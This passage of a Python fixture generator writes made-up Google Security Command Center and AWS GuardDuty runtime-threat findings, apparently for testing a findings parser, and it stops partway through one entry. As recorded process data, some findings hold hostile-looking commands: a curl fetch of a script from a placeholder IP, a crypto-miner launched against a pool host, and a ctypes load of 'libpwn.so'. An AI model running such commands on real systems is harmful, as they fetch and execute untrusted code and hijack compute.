"""Writes the finding fixtures of testdata/findings/ (see README.md there).

The values are made up; the shapes follow docs/findings.md (SCC v1/v2 protos, the
GuardDuty botocore shapes, Falco's formats.cpp and Falcosidekick's FalcoPayload). Hashes are
sha256 of a short label so they look real. Deterministic: run it twice, get the same bytes.
Standard library only.
"""
import base64
import hashlib
import json
import os

os.chdir(os.path.dirname(os.path.abspath(__file__)))


def h(label):
    return hashlib.sha256(label.encode()).hexdigest()


ORG="778899001122"; SRC="11204853102763455661"
CLUSTER_RN="//container.googleapis.com/projects/acme-payments-prod/locations/europe-west4/clusters/payments-gke-prod"
NODE="//compute.googleapis.com/projects/acme-payments-prod/zones/europe-west4-b/instances/gke-payments-gke-prod-default-pool-5f2a9c1e-7h3k"
REPO="europe-west4-docker.pkg.dev/acme-payments-prod/apps/checkout"
def dump(path, obj):
    with open(path,'w') as f:
        json.dump(obj, f, indent=2, ensure_ascii=False); f.write('\n')

def checkout_k8s(uri, image_id=None):
    c={"name":"checkout","uri":uri}
    if image_id: c["imageId"]=image_id
    c["labels"]=[{"name":"io.kubernetes.container.name","value":"checkout"}]
    return {"pods":[{"ns":"checkout","name":"checkout-7d9f8b6c5-x2kqp",
                     "labels":[{"name":"app","value":"checkout"},{"name":"pod-template-hash","value":"7d9f8b6c5"}],
                     "containers":[c]}],
            "nodes":[{"name":NODE}],
            "nodePools":[{"name":"default-pool","nodes":[{"name":NODE}]}]}, c

# 1. bare v1 REST finding
k8s, c = checkout_k8s(f"{REPO}:1.14.2", f"{REPO}@sha256:{h('checkout-index')}")
v1 = {
 "name": f"organizations/{ORG}/sources/{SRC}/findings/5b3e9f0c1d2a4e6f8a7b9c0d1e2f3a4b",
 "parent": f"organizations/{ORG}/sources/{SRC}",
 "resourceName": CLUSTER_RN,
 "state": "ACTIVE",
 "category": "Added Binary Executed",
 "externalUri": "https://console.cloud.google.com/kubernetes/clusters/details/europe-west4/payments-gke-prod?project=acme-payments-prod",
 "sourceProperties": {
   "Pod_Namespace": "checkout", "Pod_Name": "checkout-7d9f8b6c5-x2kqp", "Container_Name": "checkout",
   "Container_Image_Uri": f"{REPO}:1.14.2",
   "VM_Instance_Name": "gke-payments-gke-prod-default-pool-5f2a9c1e-7h3k",
   "Detection_Revision": 3
 },
 "securityMarks": {"name": f"organizations/{ORG}/sources/{SRC}/findings/5b3e9f0c1d2a4e6f8a7b9c0d1e2f3a4b/securityMarks"},
 "eventTime": "2026-11-20T08:14:03.512Z",
 "createTime": "2026-11-20T08:14:05.901Z",
 "severity": "LOW",
 "canonicalName": f"projects/412938475610/sources/{SRC}/findings/5b3e9f0c1d2a4e6f8a7b9c0d1e2f3a4b",
 "mute": "UNDEFINED",
 "findingClass": "THREAT",
 "mitreAttack": {"primaryTactic": "DEFENSE_EVASION", "primaryTechniques": ["MASQUERADING"], "version": "8"},
 "processes": [
   {"name": "kdevtmpfsi",
    "binary": {"path": "/tmp/.cache/kdevtmpfsi", "size": "2715432", "sha256": h("xmrig"), "hashedSize": "1048576", "partiallyHashed": True},
    "args": ["/tmp/.cache/kdevtmpfsi", "-o", "pool.example.net:3333"],
    "pid": "48211", "parentPid": "48190"},
   {"name": "sh",
    "binary": {"path": "/bin/busybox", "size": "1130560", "sha256": h("busybox-sh"), "hashedSize": "1130560"},
    "args": ["sh", "-c", "/tmp/.cache/kdevtmpfsi -o pool.example.net:3333"],
    "pid": "48190", "parentPid": "1"}
 ],
 "parentDisplayName": "Container Threat Detection",
 "description": "A binary that was not part of the original container image was executed.",
 "containers": [c],
 "kubernetes": k8s
}
dump("scc/v1-finding-added-binary.json", v1)

# 2. bare v2 finding, library loaded, bare config imageId, files[] with operations
v2 = {
 "name": f"organizations/{ORG}/sources/{SRC}/locations/global/findings/0c7d2b9e4f1a3c5e7b9d1f3a5c7e9b1d",
 "canonicalName": f"projects/412938475610/sources/{SRC}/locations/global/findings/0c7d2b9e4f1a3c5e7b9d1f3a5c7e9b1d",
 "parent": f"organizations/{ORG}/sources/{SRC}/locations/global",
 "resourceName": "//container.googleapis.com/projects/412938475610/zones/europe-west4-b/clusters/batch-gke",
 "state": "ACTIVE",
 "category": "Added Library Loaded",
 "eventTime": "2026-11-20T11:40:17.004Z",
 "createTime": "2026-11-20T11:40:19.250Z",
 "severity": "LOW",
 "mute": "UNMUTED",
 "findingClass": "THREAT",
 "processes": [
   {"name": "python3",
    "binary": {"path": "/usr/local/bin/python3.11", "size": "14304", "sha256": h("python3.11"), "hashedSize": "14304", "partiallyHashed": False},
    "libraries": [
      {"path": "/var/tmp/libpwn.so", "size": "90112", "sha256": h("libpwn.so"), "hashedSize": "90112", "partiallyHashed": False, "fileLoadState": "LOADED_BY_PROCESS"}
    ],
    "args": ["python3", "-c", "\"import ctypes; ctypes.CDLL('/var/tmp/libpwn.so')\""],
    "pid": "7731", "parentPid": "7702", "userId": "1000"}
 ],
 "parentDisplayName": "Container Threat Detection",
 "containers": [{"name": "worker", "uri": f"europe-west4-docker.pkg.dev/acme-payments-prod/apps/worker@sha256:{h('checkout-manifest')}", "imageId": f"sha256:{h('checkout-config')}"}],
 "kubernetes": {"pods": [{"ns": "batch", "name": "reconcile-28915440-vx8lt", "containers": [{"name": "worker", "uri": f"europe-west4-docker.pkg.dev/acme-payments-prod/apps/worker@sha256:{h('checkout-manifest')}"}]}],
                "nodes": [{"name": "//compute.googleapis.com/projects/412938475610/zones/europe-west4-b/instances/gke-batch-gke-spot-pool-0d4c1b2a-q9wz"}]},
 "files": [{"path": "/var/tmp/libpwn.so", "operations": [{"type": "OPEN"}]}]
}
dump("scc/v2-finding-added-library.json", v2)

# 3. v1 notification
k8s, c = checkout_k8s(f"{REPO}:1.14.2@sha256:{h('checkout-index')}")
malicious = {
 "name": f"organizations/{ORG}/sources/{SRC}/findings/9d1e3f5a7b9c1d3e5f7a9b1c3d5e7f9a",
 "parent": f"organizations/{ORG}/sources/{SRC}",
 "resourceName": CLUSTER_RN,
 "state": "ACTIVE",
 "category": "Execution: Added Malicious Binary Executed",
 "sourceProperties": {"VirusTotal_Indicator": {"sha256": h("xmrig"), "domains": []}},
 "eventTime": "2026-11-21T02:03:44.120Z",
 "createTime": "2026-11-21T02:03:46.007Z",
 "severity": "CRITICAL",
 "mute": "UNDEFINED",
 "findingClass": "THREAT",
 "indicator": {"signatures": [{"memoryHashSignature": {"binaryFamily": "XMRig"}}]},
 "processes": [
   {"name": "xmr", "binary": {"path": "/var/tmp/xmr", "size": "5320016", "sha256": h("xmrig"), "hashedSize": "5320016", "partiallyHashed": False},
    "args": ["/var/tmp/xmr", "--donate-level", "1"], "pid": "51102", "parentPid": "51090"}
 ],
 "parentDisplayName": "Container Threat Detection",
 "containers": [c],
 "kubernetes": k8s
}
notif_v1 = {
 "notificationConfigName": f"organizations/{ORG}/notificationConfigs/ctd-to-soc",
 "finding": malicious,
 "resource": {
   "name": CLUSTER_RN, "displayName": "payments-gke-prod", "type": "google.container.Cluster",
   "project": "//cloudresourcemanager.googleapis.com/projects/412938475610",
   "projectDisplayName": "acme-payments-prod",
   "parent": "//cloudresourcemanager.googleapis.com/projects/412938475610",
   "parentDisplayName": "acme-payments-prod",
   "folders": [{"resourceFolder": "//cloudresourcemanager.googleapis.com/folders/556677889900", "resourceFolderDisplayName": "production"}],
   "cloudProvider": "GOOGLE_CLOUD_PLATFORM", "organization": f"organizations/{ORG}",
   "service": "container.googleapis.com", "location": "europe-west4",
   "resourcePath": {"nodes": [{"nodeType": "GCP_PROJECT", "id": "projects/412938475610", "displayName": "acme-payments-prod"}]},
   "resourcePathString": "organizations/778899001122/folders/556677889900/projects/412938475610"
 }
}
dump("scc/notification-v1.json", notif_v1)

# 4. v2 notification, Cloud Run
RUN_RN = "//run.googleapis.com/projects/acme-web-prod/locations/us-east1/services/storefront"
notif_v2 = {
 "notificationConfigName": f"organizations/{ORG}/locations/global/notificationConfigs/crtd-critical",
 "finding": {
   "name": f"organizations/{ORG}/sources/6615577440032144005/locations/us/findings/3e5c7a9b1d3f5e7c9a1b3d5f7e9c1a3b",
   "canonicalName": f"projects/903184756201/sources/6615577440032144005/locations/us/findings/3e5c7a9b1d3f5e7c9a1b3d5f7e9c1a3b",
   "parent": f"organizations/{ORG}/sources/6615577440032144005/locations/us",
   "resourceName": RUN_RN,
   "state": "ACTIVE",
   "category": "Execution: Modified Malicious Binary Executed",
   "eventTime": "2026-11-22T17:25:09.881Z",
   "createTime": "2026-11-22T17:25:12.300Z",
   "severity": "CRITICAL",
   "mute": "UNDEFINED",
   "findingClass": "THREAT",
   "processes": [
     {"name": "node", "binary": {"path": "/usr/local/bin/node", "size": "118304216", "sha256": h("runc"), "hashedSize": "104857600", "partiallyHashed": True},
      "args": ["node", "/srv/server.js"], "pid": "1", "userId": "1000"}
   ],
   "parentDisplayName": "Cloud Run Threat Detection",
   "containers": [{"name": "storefront-1", "uri": "us-docker.pkg.dev/acme-web-prod/web/storefront:2026.11.3",
                   "imageId": f"us-docker.pkg.dev/acme-web-prod/web/storefront@sha256:{h('api-image')}"}]
 },
 "resource": {
   "name": RUN_RN, "displayName": "storefront", "type": "run.googleapis.com/Service",
   "cloudProvider": "GOOGLE_CLOUD_PLATFORM", "service": "run.googleapis.com", "location": "us-east1",
   "gcpMetadata": {"project": "//cloudresourcemanager.googleapis.com/projects/903184756201",
                   "projectDisplayName": "acme-web-prod",
                   "parent": "//cloudresourcemanager.googleapis.com/projects/903184756201",
                   "parentDisplayName": "acme-web-prod", "folders": [], "organization": f"organizations/{ORG}"},
   "resourcePath": {"nodes": [{"nodeType": "GCP_PROJECT", "id": "projects/903184756201", "displayName": "acme-web-prod"}]},
   "resourcePathString": "organizations/778899001122/projects/903184756201"
 }
}
dump("scc/notification-v2.json", notif_v2)

# 5. push envelope whose data is a v1 notification (built-in malicious)
k8s, c = checkout_k8s(f"{REPO}:1.14.2", f"{REPO}@sha256:{h('checkout-index')}")
builtin = json.loads(json.dumps(notif_v1))
f = builtin["finding"]
f["name"] = f"organizations/{ORG}/sources/{SRC}/findings/1f3a5c7e9b1d3f5a7c9e1b3d5f7a9c1e"
f["category"] = "Execution: Built in Malicious Binary Executed"
f["eventTime"] = "2026-11-23T06:30:00.250Z"; f["createTime"] = "2026-11-23T06:30:02.010Z"
f["processes"] = [{"name": "curl", "binary": {"path": "/usr/bin/curl", "size": "260328", "sha256": h("curl"), "hashedSize": "260328", "partiallyHashed": False},
                   "args": ["curl", "-fsSL", "http://203.0.113.9/x.sh"], "pid": "60210", "parentPid": "60200"}]
f["containers"] = [c]; f["kubernetes"] = k8s
data = base64.b64encode(json.dumps(builtin, separators=(",", ":")).encode()).decode()
push = {"message": {"attributes": {"notificationConfigName": "ctd-to-soc"}, "data": data,
                    "messageId": "13184562259012744", "message_id": "13184562259012744",
                    "publishTime": "2026-11-23T06:30:03.412Z", "publish_time": "2026-11-23T06:30:03.412Z"},
        "subscription": "projects/acme-secops/subscriptions/scc-findings-push"}
dump("scc/pubsub-push.json", push)

# 6. gcloud list
gres = {"name": CLUSTER_RN, "projectName": "//cloudresourcemanager.googleapis.com/projects/412938475610",
        "projectDisplayName": "acme-payments-prod", "parentName": "//cloudresourcemanager.googleapis.com/projects/412938475610",
        "parentDisplayName": "acme-payments-prod", "type": "google.container.Cluster", "displayName": "payments-gke-prod",
        "folders": [{"resourceFolder": "//cloudresourcemanager.googleapis.com/folders/556677889900", "resourceFolderDisplayName": "production"}],
        "cloudProvider": "GOOGLE_CLOUD_PLATFORM", "organization": f"organizations/{ORG}", "service": "container.googleapis.com",
        "location": "europe-west4", "resourcePathString": "organizations/778899001122/folders/556677889900/projects/412938475610"}
k8s_tag, c_tag = checkout_k8s(f"{REPO}:1.14.2")
gl = [
 {"finding": {
   "name": f"organizations/{ORG}/sources/{SRC}/findings/7e9a1c3e5a7c9e1a3c5e7a9c1e3a5c7e",
   "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
   "category": "Added Binary Executed", "eventTime": "2026-11-24T13:05:41.700Z", "createTime": "2026-11-24T13:05:43.002Z",
   "severity": "LOW", "mute": "UNDEFINED", "findingClass": "THREAT",
   "processes": [{"name": "tool", "binary": {"path": "/usr/local/bin/tool", "size": "4198400", "sha256": h("tool"), "hashedSize": "4198400"},
                  "args": ["tool", "--sync"], "pid": "3312", "parentPid": "3300"}],
   "parentDisplayName": "Container Threat Detection", "containers": [c_tag], "kubernetes": k8s_tag},
  "resource": gres, "stateChange": "UNCHANGED"},
 {"finding": {
   "name": f"organizations/{ORG}/sources/{SRC}/findings/2a4c6e8a0c2e4a6c8e0a2c4e6a8c0e2a",
   "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
   "category": "Execution: Fileless Execution in /memfd:", "eventTime": "2026-11-24T14:22:10.030Z", "createTime": "2026-11-24T14:22:11.900Z",
   "severity": "HIGH", "mute": "UNDEFINED", "findingClass": "THREAT",
   "processes": [{"name": "kworker", "binary": {"path": "/memfd:kworker (deleted)", "size": "811008", "sha256": h("kworker-memfd"), "hashedSize": "811008", "partiallyHashed": False},
                  "args": ["[kworker/0:2]"], "pid": "3390", "parentPid": "3312"}],
   "parentDisplayName": "Container Threat Detection", "containers": [c_tag], "kubernetes": k8s_tag},
  "resource": gres}
]
dump("scc/gcloud-list.json", gl)

# 7. REST list page
rl = {"listFindingsResults": [
  {"finding": {
    "name": f"organizations/{ORG}/sources/{SRC}/findings/6c8e0a2c4e6a8c0e2a4c6e8a0c2e4a6c",
    "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
    "category": "Privilege Escalation: Fileless Execution in /dev/shm", "eventTime": "2026-11-25T09:00:00.000Z",
    "severity": "HIGH", "mute": "MUTED", "findingClass": "THREAT",
    "processes": [{"name": "run", "binary": {"path": "/dev/shm/.x/run", "size": "20480", "sha256": h("devshm-run"), "hashedSize": "20480", "partiallyHashed": False},
                   "args": ["/dev/shm/.x/run"], "pid": "812", "parentPid": "800"}],
    "parentDisplayName": "Container Threat Detection", "containers": [c_tag], "kubernetes": k8s_tag},
   "resource": gres, "stateChange": "ADDED"},
  {"finding": {
    "name": f"organizations/{ORG}/sources/{SRC}/findings/8e0a2c4e6a8c0e2a4c6e8a0c2e4a6c8e",
    "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "INACTIVE",
    "category": "Execution: Malicious Script Executed", "eventTime": "2026-11-25T09:12:31.441Z",
    "severity": "HIGH", "mute": "UNDEFINED", "findingClass": "THREAT",
    "processes": [{"name": "bash", "binary": {"path": "/usr/bin/bash", "size": "1265648", "sha256": h("bash"), "hashedSize": "1048576", "partiallyHashed": True},
                   "script": {"path": "/tmp/x.sh", "size": "812", "sha256": h("x.sh"), "hashedSize": "812", "partiallyHashed": False, "contents": "IyEvYmluL2Jhc2gK"},
                   "args": ["bash", "/tmp/x.sh"], "argumentsTruncated": True, "pid": "830", "parentPid": "812"}],
    "parentDisplayName": "Container Threat Detection", "containers": [c_tag], "kubernetes": k8s_tag},
   "resource": gres, "stateChange": "CHANGED"}
 ],
 "readTime": "2026-11-25T10:00:00.000Z", "nextPageToken": "", "totalSize": 2}
dump("scc/rest-list.json", rl)

# 8. Python client to_dict(): snake_case, integer enums, defaults included, int64 as strings
py = {
 "name": f"organizations/{ORG}/sources/{SRC}/findings/4b6d8f0b2d4f6b8d0f2b4d6f8b0d2f4b",
 "parent": f"organizations/{ORG}/sources/{SRC}",
 "resource_name": CLUSTER_RN,
 "state": 1,
 "category": "Added Binary Executed",
 "external_uri": "",
 "source_properties": {"Pod_Namespace": "checkout", "Pod_Name": "checkout-7d9f8b6c5-x2kqp", "Container_Name": "checkout"},
 "event_time": "2026-11-26T07:45:12.345678Z",
 "create_time": "2026-11-26T07:45:14.000001Z",
 "severity": 4,
 "canonical_name": f"projects/412938475610/sources/{SRC}/findings/4b6d8f0b2d4f6b8d0f2b4d6f8b0d2f4b",
 "mute": 4,
 "finding_class": 1,
 "mute_initiator": "",
 "processes": [{
   "name": "payload",
   "binary": {"path": "/home/app/.local/bin/payload", "size": "65536", "sha256": h("payload"), "hashed_size": "65536", "partially_hashed": False, "contents": ""},
   "libraries": [],
   "args": ["/home/app/.local/bin/payload", "--quiet"],
   "arguments_truncated": False,
   "env_variables": [],
   "env_variables_truncated": False,
   "pid": "9120",
   "parent_pid": "0"
 }],
 "parent_display_name": "Container Threat Detection",
 "description": "",
 "next_steps": "",
 "module_name": "",
 "containers": [{"name": "checkout", "uri": f"{REPO}:1.14.2", "image_id": "", "labels": []}],
 "kubernetes": {"pods": [{"ns": "checkout", "name": "checkout-7d9f8b6c5-x2kqp", "labels": [], "containers": []}],
                "nodes": [{"name": NODE}], "node_pools": [], "roles": [], "bindings": [], "access_reviews": [], "objects": []},
 "files": [],
 "connections": [],
 "iam_bindings": [],
 "compliances": []
}
dump("scc/python-to-dict.json", py)

# 9. console JSON tab: camelCase finding, snake_case resource, numeric int64s, module-name category
console = {
 "finding": {
   "name": f"organizations/{ORG}/sources/{SRC}/findings/0d2f4b6d8f0b2d4f6b8d0f2b4d6f8b0d",
   "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
   "category": "ADDED_BINARY_EXECUTED", "eventTime": "2026-11-27T21:10:00.500Z", "severity": "LOW",
   "processes": [{"binary": {"path": "/opt/app/bin/helper", "size": 5120, "sha256": h("helper").upper(), "hashedSize": 5120},
                  "args": ["helper"], "pid": 7001, "parentPid": 6990}],
   "containers": [{"name": "checkout", "uri": f"{REPO}:1.14.2", "imageId": f"docker-pullable://{REPO}@sha256:{h('checkout-index')}"}],
   "kubernetes": {"pods": [{"ns": "checkout", "name": "checkout-7d9f8b6c5-x2kqp"}]}
 },
 "resource": {"name": CLUSTER_RN, "display_name": "payments-gke-prod", "project_display_name": "acme-payments-prod",
              "parent_display_name": "acme-payments-prod", "type": "google.container.Cluster"}
}
dump("scc/console-json-tab.json", console)

# 10. container info dropped: only sourceProperties
sp = {
 "name": f"organizations/{ORG}/sources/{SRC}/findings/5f7b9d1f3b5d7f9b1d3f5b7d9f1b3d5f",
 "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
 "category": "Execution: Added Binary Executed",
 "sourceProperties": {"Pod_Namespace": "checkout", "Pod_Name": "checkout-7d9f8b6c5-x2kqp", "Container_Name": "checkout",
                      "Container_Image_Uri": f"{REPO}@sha256:{h('checkout-index')}",
                      "VM_Instance_Name": "gke-payments-gke-prod-default-pool-5f2a9c1e-7h3k",
                      "Process_Binary_Fullpath": "/tmp/.x/agent"},
 "eventTime": "2026-11-28T03:33:33.333Z", "severity": "LOW", "parentDisplayName": "Container Threat Detection"
}
dump("scc/source-properties-only.json", sp)

# ---------------- GuardDuty
ACCT="123456789012"; DET="6ec5f3b2a1d04e8f9c7b5a3d1e2f4a6b"
CID="8f3d2c1b0a9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c"
ECR="123456789012.dkr.ecr.eu-west-1.amazonaws.com"
eks_container = {"containerRuntime": "containerd", "id": CID, "name": "orders-api", "image": f"{ECR}/orders-api:3.2.0",
                 "imagePrefix": ECR, "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}
gd1 = {
 "schemaVersion": "2.0", "accountId": ACCT, "region": "eu-west-1", "partition": "aws",
 "id": "4ac6f1d2e8b94a0c9f3e5d7b1a2c4e6f",
 "arn": f"arn:aws:guardduty:eu-west-1:{ACCT}:detector/{DET}/finding/4ac6f1d2e8b94a0c9f3e5d7b1a2c4e6f",
 "type": "Execution:Runtime/NewBinaryExecuted",
 "resource": {
   "resourceType": "EKSCluster",
   "eksClusterDetails": {"name": "orders-eks", "arn": f"arn:aws:eks:eu-west-1:{ACCT}:cluster/orders-eks", "vpcId": "vpc-0a1b2c3d4e5f60718",
                         "status": "ACTIVE", "tags": [{"key": "team", "value": "orders"}], "createdAt": 1690000000.123},
   "kubernetesDetails": {"kubernetesWorkloadDetails": {"name": "orders-api-6b8f9c7d4-9zq2m", "type": "pods", "uid": "0b7f6a5e-4d3c-2b1a-0f9e-8d7c6b5a4f3e",
                                                       "namespace": "orders", "hostNetwork": False, "containers": [eks_container], "volumes": []}},
   "containerDetails": eks_container,
   "instanceDetails": {"instanceId": "i-0f1e2d3c4b5a69788", "instanceType": "m6i.large", "availabilityZone": "eu-west-1b", "platform": None,
                       "productCodes": [], "tags": [{"key": "eks:cluster-name", "value": "orders-eks"}]}
 },
 "service": {
   "serviceName": "guardduty", "detectorId": DET, "resourceRole": "TARGET", "archived": False, "count": 3,
   "featureName": "RuntimeMonitoring",
   "eventFirstSeen": "2026-11-21T09:58:40.000Z", "eventLastSeen": "2026-11-21T10:01:57.000Z",
   "additionalInfo": {"value": "{}", "type": "default"},
   "runtimeDetails": {
     "process": {"name": "curl", "executablePath": "/tmp/curl", "executableSha256": h("curl"), "namespacePid": 118, "pwd": "/app",
                 "pid": 20931, "startTime": 1763719317.0, "uuid": "b4e8d2c6-a0f4-4e8c-9a2b-6d4f8e0c2a4b", "parentUuid": "9f2c4e6a-8b0d-4f2a-8c4e-6a8b0d2f4a6c",
                 "user": "root", "userId": 0, "euid": 0,
                 "lineage": [
                   {"startTime": 1763719310.0, "namespacePid": 101, "userId": 0, "name": "sh", "pid": 20910, "uuid": "9f2c4e6a-8b0d-4f2a-8c4e-6a8b0d2f4a6c",
                    "executablePath": "/bin/dash", "euid": 0, "parentUuid": "71aa3c5e-7a9c-4b1d-8f3a-5c7e9a1b3d5f"},
                   {"startTime": 1763000000.0, "namespacePid": 1, "userId": 1000, "name": "node", "pid": 20001, "uuid": "71aa3c5e-7a9c-4b1d-8f3a-5c7e9a1b3d5f",
                    "executablePath": "/usr/local/bin/node", "euid": 1000, "parentUuid": "0c2e4a6c-8e0a-4c2e-8a0c-2e4a6c8e0a2c"}]},
     "context": {"modifyingProcess": {"name": "wget", "executablePath": "/usr/bin/wget", "executableSha256": h("wget"), "namespacePid": 115, "pid": 20925,
                                      "startTime": 1763719305.0, "uuid": "5d7f9b1d-3f5b-4d7f-9b1d-3f5b7d9f1b3d", "parentUuid": "9f2c4e6a-8b0d-4f2a-8c4e-6a8b0d2f4a6c",
                                      "user": "root", "userId": 0, "euid": 0},
                 "modifiedAt": 1763719306.5}
   }
 },
 "severity": 5, "createdAt": "2026-11-21T09:59:12.413Z", "updatedAt": "2026-11-21T10:02:05.118Z",
 "title": "A newly created or recently modified binary file has been executed in a container.",
 "description": "A newly created or recently modified binary file /tmp/curl has been executed in container orders-api of pod orders-api-6b8f9c7d4-9zq2m."
}
eb = {"version": "0", "id": "a1f4c2d8-3b5e-4f7a-9c1d-2e4f6a8b0c1d", "detail-type": "GuardDuty Finding", "source": "aws.guardduty",
      "account": ACCT, "time": "2026-11-21T10:02:11Z", "region": "eu-west-1", "resources": [], "detail": gd1}
dump("guardduty/eventbridge-new-binary-eks.json", eb)

ACCT2="210987654321"; ECR2="210987654321.dkr.ecr.us-east-2.amazonaws.com"
gd2 = {
 "schemaVersion": "2.0", "accountId": ACCT2, "region": "us-east-2", "partition": "aws",
 "id": "c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2",
 "arn": f"arn:aws:guardduty:us-east-2:{ACCT2}:detector/{DET}/finding/c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0c2",
 "type": "Execution:Runtime/NewLibraryLoaded",
 "resource": {
   "resourceType": "ECSCluster",
   "ecsClusterDetails": {"name": "billing", "arn": f"arn:aws:ecs:us-east-2:{ACCT2}:cluster/billing", "status": "ACTIVE",
                         "activeServicesCount": 4, "registeredContainerInstancesCount": 0, "runningTasksCount": 9, "tags": [],
                         "taskDetails": {"arn": f"arn:aws:ecs:us-east-2:{ACCT2}:task/billing/0f3e5a7c9b1d4e6f8a0c2e4b6d8f0a1c",
                                         "definitionArn": f"arn:aws:ecs:us-east-2:{ACCT2}:task-definition/invoicer:7", "version": "7",
                                         "createdAt": 1763650000.0, "startedAt": 1763650042.5, "startedBy": "ecs-svc/1234567890123456789",
                                         "tags": [], "volumes": [],
                                         "containers": [
                                           {"containerRuntime": "containerd", "name": "invoicer", "image": f"{ECR2}/invoicer@sha256:{h('nginx-index')}", "imagePrefix": ECR2},
                                           {"containerRuntime": "containerd", "name": "log-router", "image": "public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.0", "imagePrefix": "public.ecr.aws/aws-observability"}],
                                         "group": "service:invoicer", "launchType": "FARGATE"}},
   "containerDetails": {"containerRuntime": "containerd", "id": "0f3e5a7c9b1d4e6f8a0c2e4b6d8f0a1c-1527358221", "name": "invoicer"}
 },
 "service": {
   "serviceName": "guardduty", "detectorId": DET, "resourceRole": "TARGET", "archived": False, "count": 1,
   "featureName": "RuntimeMonitoring", "eventFirstSeen": "2026-11-22T03:17:45.000Z",
   "runtimeDetails": {
     "process": {"name": "java", "executablePath": "/usr/lib/jvm/java-17-openjdk/bin/java", "namespacePid": 7, "pwd": "/opt/invoicer",
                 "pid": 412, "startTime": 1763650050.0, "uuid": "2b4d6f8b-0d2f-4b6d-8f0b-2d4f6b8d0f2b", "parentUuid": "6f8b0d2f-4b6d-4f8b-8d2f-4b6d8f0b2d4f",
                 "user": "invoicer", "userId": 1001, "euid": 1001, "lineage": []},
     "context": {"libraryPath": "/tmp/hsperf/libnative-4921.so"}
   }
 },
 "severity": 5.0, "createdAt": "2026-11-22T03:18:02.771Z", "updatedAt": "2026-11-22T03:18:02.771Z",
 "title": "A newly created or recently modified library was loaded in a container."
}
eb2 = {"version": "0", "id": "b7d9f1b3-5d7f-4b9d-8f1b-3d5f7b9d1f3b", "detail-type": "GuardDuty Finding", "source": "aws.guardduty",
       "account": ACCT2, "time": "2026-11-22T03:18:05Z", "region": "us-east-2", "resources": [], "detail": gd2}
dump("guardduty/eventbridge-new-library-ecs.json", eb2)

def pascal(o):
    if isinstance(o, dict):
        return {(k[0].upper()+k[1:]): pascal(v) for k, v in o.items()}
    if isinstance(o, list):
        return [pascal(v) for v in o]
    return o
cli1 = json.loads(json.dumps(gd1))
cli1["id"] = "e8a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8"
cli1["arn"] = f"arn:aws:guardduty:eu-west-1:{ACCT}:detector/{DET}/finding/e8a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8"
payments = f"{ECR}/payments@sha256:{h('apiimg-payments')}"
pc = {"containerRuntime": "containerd", "id": CID.replace("8f3d", "1a2b"), "name": "payments", "image": payments, "imagePrefix": ECR}
cli1["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"].update({"name": "payments", "type": "deployments", "namespace": "payments", "containers": [pc]})
cli1["resource"]["containerDetails"] = pc
rt = cli1["service"]["runtimeDetails"]
rt["process"].update({"name": "payload", "executablePath": "/var/tmp/payload", "executableSha256": h("payload2"), "startTime": "2026-11-23T12:00:01.250000+00:00"})
for l in rt["process"]["lineage"]:
    l["startTime"] = "2026-11-23T11:59:50+00:00"
rt["context"]["modifiedAt"] = "2026-11-23T11:59:58.500000+00:00"
rt["context"]["modifyingProcess"]["startTime"] = "2026-11-23T11:59:57+00:00"
cli1["resource"]["eksClusterDetails"]["createdAt"] = "2023-07-22T04:26:40.123000+00:00"
cli1["service"]["eventFirstSeen"] = "2026-11-23T12:00:01.000Z"; cli1["service"]["eventLastSeen"] = "2026-11-23T12:00:01.000Z"
cli1["createdAt"] = "2026-11-23T12:00:30.118Z"; cli1["updatedAt"] = "2026-11-23T12:00:30.118Z"
cli2 = {
 "schemaVersion": "2.0", "accountId": ACCT, "region": "eu-west-1", "partition": "aws",
 "id": "a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0",
 "arn": f"arn:aws:guardduty:eu-west-1:{ACCT}:detector/{DET}/finding/a0c2e4a6c8e0a2c4e6a8c0e2a4c6e8a0",
 "type": "DefenseEvasion:Runtime/FilelessExecution",
 "resource": {"resourceType": "EKSCluster",
              "eksClusterDetails": {"name": "orders-eks", "arn": f"arn:aws:eks:eu-west-1:{ACCT}:cluster/orders-eks"},
              "kubernetesDetails": {"kubernetesWorkloadDetails": {"name": "orders-api-6b8f9c7d4-9zq2m", "type": "pods", "namespace": "orders", "containers": [eks_container]}},
              "containerDetails": eks_container,
              "instanceDetails": {"instanceId": "i-0f1e2d3c4b5a69788"}},
 "service": {"serviceName": "guardduty", "detectorId": DET, "featureName": "RuntimeMonitoring", "count": 1,
             "eventFirstSeen": "2026-11-23T15:40:00.000Z", "eventLastSeen": "2026-11-23T15:40:00.000Z",
             "runtimeDetails": {"process": {"name": "3", "executablePath": "/memfd:payload (deleted)", "executableSha256": h("memfd-payload"),
                                            "pid": 21877, "namespacePid": 160, "uuid": "3c5e7a9c-1e3a-4c5e-9a1c-3e5a7c9e1a3c",
                                            "parentUuid": "b4e8d2c6-a0f4-4e8c-9a2b-6d4f8e0c2a4b", "user": "root", "startTime": "2026-11-23T15:39:59+00:00",
                                            "lineage": [{"name": "python3", "executablePath": "/usr/bin/python3.11", "pid": 21870, "uuid": "b4e8d2c6-a0f4-4e8c-9a2b-6d4f8e0c2a4b"}]}}},
 "severity": 8, "createdAt": "2026-11-23T15:40:12.000Z", "updatedAt": "2026-11-23T15:40:12.000Z",
 "title": "A process executed a binary from memory."
}
cli3 = {
 "schemaVersion": "2.0", "accountId": ACCT, "region": "eu-west-1", "partition": "aws",
 "id": "f1b3d5f7b9d1f3b5d7f9b1d3f5b7d9f1",
